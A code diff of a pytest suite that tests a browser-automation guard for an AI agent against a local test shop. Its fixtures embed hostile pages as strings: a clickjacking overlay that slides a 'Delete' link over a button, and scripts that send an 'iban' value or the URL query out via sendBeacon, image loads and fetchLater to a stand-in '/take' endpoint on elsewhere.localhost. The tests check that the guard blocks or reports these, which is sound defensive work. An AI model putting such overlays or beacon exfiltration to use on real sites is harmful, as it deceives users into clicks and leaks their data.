@@ -94,6 +94,8 @@ class Orders:
     def __init__(self) -> None:
         self.received: list[tuple[str, str]] = []
         self.late = "DE00"
+        self.pages: dict[str, str] = {}
+        """By path, what a test adds."""
         shop = self
 
         class Handler(BaseHTTPRequestHandler):
@@ -109,8 +111,9 @@ class Orders:
             def _answer(self) -> None:
                 self.send_response(200)
                 self.send_header("content-type", "text/html")
+                self.send_header("access-control-allow-origin", "*")
                 self.end_headers()
-                page = TRICKS if self.path == "/tricks" else PAGE
+                page = shop.pages.get(self.path.partition("?")[0], TRICKS if self.path == "/tricks" else PAGE)
                 page = page.replace("LATE", shop.late)
                 self.wfile.write(page.replace("PORT", self.headers["host"].partition(":")[2]).encode())
 
@@ -329,7 +332,9 @@ def clicked(orders: Orders, guard: Any, target: str) -> str | None:
     return why
 
 
-@pytest.mark.parametrize("target", ["#less button", "#more button", "#place button"])
+@pytest.mark.parametrize(
+    "target", ["#less button", "#more button", "#place button"], ids=["left out", "twice", "place"]
+)
 def test_a_form_that_a_script_changes_as_it_is_sent_is_judged_again(orders: Orders, target: str) -> None:
     assert clicked(orders, NoRequestGuard(), target) == "a request"
     assert orders.received == []
@@ -345,14 +350,53 @@ def test_a_form_of_all_kinds_of_fields_is_sent_as_it_was_judged(orders: Orders, 
     assert (path, re.sub(r"(pic\..=)\d+", r"\1", body)) == ("/kinds", f"t=a+b&e=&w=1%0D%0A2&k=1&r=y&h=7&m=p&m=q{own}")
 
 
-def test_a_click_that_lands_elsewhere_is_judged_again_and_not_told_as_done(orders: Orders) -> None:
-    class OpenGuard:
-        """Lets through all that can be judged."""
+@pytest.mark.parametrize("is_target_framed", [True, False], ids=["out of a frame", "into a frame"])
+def test_a_click_that_lands_in_another_document_does_nothing(orders: Orders, *, is_target_framed: bool) -> None:
+    style = "<style>#over { position: absolute; left: -999px; top: 0; width: 300px; height: 150px; border: 0; }"
+    style += "#moving { position: relative; width: 300px; } #moving:hover #over { left: 0; z-index: 9; }</style>"
+    link = "<a href='/other' target='_top' style='display: block; height: 140px'>Delete</a>"
+    button = "<button id='under' style='width: 250px; height: 140px'>Details</button>"
+    under = (
+        "<iframe src='/under' style='width: 300px; height: 150px; border: 0'></iframe>" if is_target_framed else button
+    )
+    over = f"<div id='over'>{link}</div>" if is_target_framed else "<iframe id='over' src='/over'></iframe>"
+    orders.pages = {"/first": f"{style}<div id='moving'>{under}{over}</div>", "/under": button, "/over": link}
 
+    def click(page: GuardedPage) -> Any:
+        return (page.frame_locator("iframe") if is_target_framed else page).locator("#under").click()
+
+    where: list[str] = []
+
+    def told(page: GuardedPage) -> Any:
+        where.append(page.url)
+        return page.title()
+
+    (_, why, _), _ = guarded_steps(orders, OpenGuard(), lambda page: page.goto(orders.url + "first"), click, told)
+
+    assert why is not None
+    assert why.endswith("over the target, and a click would land on it")
+    assert where == [orders.url + "first"]
+
+
+def test_a_page_that_is_another_one_once_it_is_judged_is_told_as_such(orders: Orders) -> None:
+    class ThinkingGuard(OpenGuard):
         def decide(self, state: State, action: Action) -> Decision:
-            why = why_unjudged(state, action, trained_kinds=None)
-            return Decision(Verdict.ESCALATE if why else Verdict.EXECUTE, None if why else action, why or "", None, 1.0)
+            time.sleep(3.0 if action.kind is ActionKind.CLICK else 0.0)
+            return super().decide(state, action)
 
+    orders.pages = {
+        "/first": "<p>x</p><button id='go'>Go</button><script>setTimeout(() => { location = '/next'; }, 2500)</script>",
+        "/next": "<p>y</p><button>Approve</button>",
+    }
+
+    (_, why), _ = guarded_steps(
+        orders, ThinkingGuard(), lambda page: page.goto(orders.url + "first"), lambda page: page.click("#go")
+    )
+
+    assert why == "the page does not offer this: action.target_ref: click needs the element_ref of an element"
+
+
+def test_a_click_that_lands_elsewhere_is_judged_again_and_not_told_as_done(orders: Orders) -> None:
     why = clicked(orders, OpenGuard(), "#under")
 
     assert why == 'link "Delete" lies over the target, and a click would land on it'
@@ -519,6 +563,14 @@ PAST = {
 }
 
 
+class OpenGuard:
+    """Lets through all that can be judged."""
+
+    def decide(self, state: State, action: Action) -> Decision:
+        why = None if action.kind is ActionKind.GOTO else why_unjudged(state, action, trained_kinds=None)
+        return Decision(Verdict.ESCALATE if why else Verdict.EXECUTE, None if why else action, why or "", None, 1.0)
+
+
 class NoRequestGuard:
     """Lets through whatever an agent does, and no request of a script."""
 
@@ -566,6 +618,119 @@ def test_what_the_browser_does_not_stop_at_is_told_and_makes_the_rest_a_persons(
 
     assert {name for name, (arrived, _) in found.items() if arrived} == told
     assert {"audio worklet", "shared worker", "fetchLater", "speculation"} <= told
+
+
+def guarded_steps(
+    orders: Orders, guard: Any, *steps: Callable[[GuardedPage], Any]
+) -> tuple[list[str | None], list[str]]:
+    """From an empty page: why each step was refused, or None; and what could not be held back."""
+
+    async def play() -> tuple[list[str | None], list[str]]:
+        async with async_playwright() as playwright:
+            browser = await playwright.chromium.launch(
+                executable_path=str(find_chromium(None).path), args=["--no-sandbox"]
+            )
+            page = GuardedPage(await browser.new_page(), guard, goal="Order for Dana.")
+            whys: list[str | None] = []
+            for step in steps:
+                try:
+                    await step(page)
+                    whys.append(None)
+                except ActionRefusedError as error:
+                    whys.append(error.decision.reason)
+                await asyncio.sleep(0.8)
+            await browser.close()
+        return whys, page.unheld
+
+    return asyncio.run(play())
+
+
+@pytest.mark.parametrize("left", ["pagehide", "visibilitychange", "unload"])
+@pytest.mark.parametrize("is_framed", [False, True], ids=["page", "frame"])
+def test_a_page_that_listens_from_the_start_does_not_hear_that_it_is_left(
+    orders: Orders, left: str, *, is_framed: bool
+) -> None:
+    hears = f"<p>x</p><script>addEventListener('{left}', () => navigator.sendBeacon('/take', 'iban'), true)</script>"
+    orders.pages = {"/hears": hears, "/around": "<p>x</p><iframe src='/hears'></iframe>"}
+    path = "around" if is_framed else "hears"
+
+    whys, _ = guarded_steps(
+        orders, NoRequestGuard(), lambda page: page.goto(orders.url + path), lambda page: page.goto(orders.url)
+    )
+
+    assert (whys, orders.received) == ([None, None], [])
+
+
+def test_what_the_next_document_tells_by_a_picture_is_judged_and_a_plain_picture_is_shown(orders: Orders) -> None:
+    elsewhere = "http://elsewhere.localhost:PORT"
+    orders.pages = {
+        "/first": "<p>x</p><button id='go' onclick=\"location = '/next?iban=DE00'\">Go</button>",
+        "/next": f"<p>y</p><img src='{elsewhere}/logo.png?v=3'>"
+        f"<script>new Image().src = '{elsewhere}/take' + location.search</script>",
+    }
+
+    whys, _ = guarded_steps(
+        orders, NoRequestGuard(), lambda page: page.goto(orders.url + "first"), lambda page: page.click("#go")
+    )
+
+    assert (whys, orders.received) == ([None, None], [("/logo.png?v=3", "")])
+
+
+def test_a_page_reads_its_own_site_and_no_longer_that_before_it(orders: Orders) -> None:
+    orders.pages = {
+        "/own": "<p>x</p><iframe src='/other'></iframe><script>fetch('/other?own')</script>",
+        "/back": f"<p>x</p><script>fetch('{orders.url}other?DE00').catch(() => null)</script>",
+    }
+    there = orders.url.replace("localhost", "elsewhere.localhost")
+
+    whys, _ = guarded_steps(
+        orders,
+        NoRequestGuard(),
+        lambda page: page.goto(orders.url + "own"),
+        lambda page: page.goto(there + "own"),
+        lambda page: page.goto(there + "back"),
+        lambda page: page.goto(orders.url),
+        lambda page: page.goto(there + "back"),
+    )
+
+    assert whys == [None, None, "a request", None, "a request"]
+
+
+def test_what_a_window_sends_past_the_browser_is_told_too(orders: Orders) -> None:
+    orders.pages = {
+        "/first": "<p>x</p><button id='go' onclick=\"window.open('/window')\">Go</button>",
+        "/window": "<p>y</p><script>setTimeout(() => fetchLater('/take', "
+        "{method: 'POST', body: 'x', activateAfter: 100}), 1000)</script>",
+    }
+
+    whys, unheld = guarded_steps(
+        orders,
+        NoRequestGuard(),
+        lambda page: page.goto(orders.url + "first"),
+        lambda page: page.click("#go"),
+        lambda page: page.wait_for_timeout(2000),
+        lambda page: page.evaluate("1"),
+    )
+
+    assert (whys[:3], unheld) == ([None] * 3, [f"POST {orders.url}take"])
+    assert whys[3] == f"a page of this site has sent what could not be held back: POST {orders.url}take"
+
+
+def test_what_the_browser_asks_before_a_request_that_is_let_through_is_no_evasion(orders: Orders) -> None:
+    sends = (
+        "fetch('http://elsewhere.localhost:PORT/api', {method: 'POST', headers: {'content-type': 'application/json'}})"
+    )
+    orders.pages = {"/first": f"<p>x</p><button id='go' onclick=\"{sends}\">Go</button>"}
+
+    whys, unheld = guarded_steps(
+        orders,
+        AccountGuard(),
+        lambda page: page.goto(orders.url + "first"),
+        lambda page: page.click("#go"),
+        lambda page: page.click("#go"),
+    )
+
+    assert (whys, unheld, len(orders.received)) == ([None] * 3, [], 2)
 
 
 def test_the_same_request_again_and_again_is_judged_once(orders: Orders) -> None:
